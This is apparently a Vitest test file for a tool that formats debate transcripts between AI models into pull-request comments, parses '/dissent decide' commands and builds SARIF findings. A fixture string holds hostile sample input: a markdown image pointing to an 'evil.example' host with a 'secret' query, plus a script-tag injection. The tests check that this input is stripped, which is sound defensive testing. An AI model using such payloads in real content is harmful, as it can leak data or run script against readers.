import { describe, expect, test } from "vitest";

import { handmade, QUOTE } from "../../test/support/journals/handmade-journal.ts";
import { computeAudit } from "../audit/audit.ts";
import { buildTranscript } from "../domain/journal/transcript.ts";
import {
  formatCommentMark,
  formatPullRequestComment,
  parseDecisionCommand,
} from "./pull-request-comment.ts";
import { findQuoteLines, buildSarifLog } from "./sarif-log.ts";

const HOSTILE = "@octocat see #12 ![](https://evil.example/?q=secret) <script>alert(1)</script>";

const contested = handmade({
  seats: { ann: "anthropic/opus", bob: "openai/gpt" },
  rounds: [
    [
      { by: "ann", holds: "A", words: HOSTILE, claims: [{ id: "A1", about: "A", quote: QUOTE }] },
      {
        by: "bob",
        holds: "B",
        claims: [{ id: "B1", about: "A", side: "attacks", quote: QUOTE, text: HOSTILE }],
      },
    ],
  ],
  changes: {
    ending: "open",
    label: "CONTESTED",
    choice: null,
    dissents: [{ by: "ann", holds: "A", words: HOSTILE, grounds: [], stage: null }],
  },
});

describe("a comment", () => {
  const audit = computeAudit(contested);
  const verdict = {
    passed: false,
    advisory: false,
    reasons: [{ kind: "disagreement", code: "contested", message: HOSTILE }],
  };
  const text = formatPullRequestComment(buildTranscript(contested), "cache", { audit, verdict });

  test("is found again by its first line", () => {
    expect(text.split("\n")[0]).toBe(formatCommentMark("cache"));
    expect(formatCommentMark("--> <b>")).toBe("<!-- dissent:-----b- -->");
  });

  test("K17 mentions no user, links nothing and holds no markup of a model's", () => {
    expect(text).not.toMatch(/@\w/);
    expect(text).not.toMatch(/#\d/);
    expect(text).not.toMatch(/(?<!\\)!\[/);
    expect(text).not.toContain("<script>");
    expect(text).not.toContain("https://evil");
  });

  test("says why the gate is shut, who holds what, and how to decide", () => {
    expect(text).toContain("**Gate failed.**");
    expect(text).toContain("`contested`");
    expect(text).toContain("**Ann** holds **A**");
    expect(text).toContain("/dissent decide A because …");
  });

  test("stays below what a code host takes", () => {
    const long = buildTranscript(contested);
    const notices = Array.from({ length: 2_000 }, () => "a notice of some length, ".repeat(4));

    const cut = formatPullRequestComment({ ...long, notices }, "cache", { audit, verdict });

    expect(cut.length).toBeLessThan(65_536);
    expect(cut).toContain("Cut here");
  });
});

describe("a decision in a comment", () => {
  test("is a line that begins with /dissent decide", () => {
    expect(
      parseDecisionCommand(
        "I thought about it.\n/dissent decide C because we pilot it first \r\nBye",
      ),
    ).toEqual({ choice: "C", reason: "we pilot it first" });
  });

  test.each([
    "dissent decide C because",
    "/dissent decide C",
    "> /dissent decide C because someone quoted it",
    "see /dissent decide C because it is in a sentence",
    "/dissent decide because there is no option",
  ])("%j is not a decision", (comment) => {
    expect(parseDecisionCommand(comment)).toBeUndefined();
  });
});

describe("objections at their lines", () => {
  const text = `---\nquestion: x\n---\n# Plan\n\nWe know that a wrong merge\nsilently overwrites a “safety”   record.\n`;

  test("a quote is found across lines, as quotes are checked", () => {
    expect(findQuoteLines(text, 'a wrong merge silently overwrites a "safety" record')).toEqual({
      first: 6,
      last: 7,
    });
    expect(findQuoteLines(text, "not in it")).toBeNull();
    expect(findQuoteLines("", "")).toBeNull();
    expect(findQuoteLines("one\r\ntwo\r\nthree", "three")).toEqual({ first: 3, last: 3 });
  });

  test("only what stands against someone and rests on a file is told", () => {
    const setting = {
      texts: new Map([["brief", `first\n${QUOTE}\n`]]),
      findPath: (source: string) => (source === "brief" ? "plans/a plan.md" : undefined),
      version: "1",
    };

    const log = buildSarifLog(contested, computeAudit(contested), setting) as {
      runs: { results: { ruleId: string; message: { text: string }; locations: unknown[] }[] }[];
    };
    const without = buildSarifLog(contested, computeAudit(contested), {
      ...setting,
      findPath: () => undefined,
    });

    expect(log.runs[0]?.results).toMatchObject([
      {
        ruleId: "open-challenge",
        message: { text: expect.stringMatching(/^B1, Bob: /) },
        locations: [
          {
            physicalLocation: {
              artifactLocation: { uri: "plans/a%20plan.md" },
              region: { startLine: 2, endLine: 2 },
            },
          },
        ],
      },
    ]);
    expect(without).toMatchObject({ runs: [{ results: [] }] });
  });
});
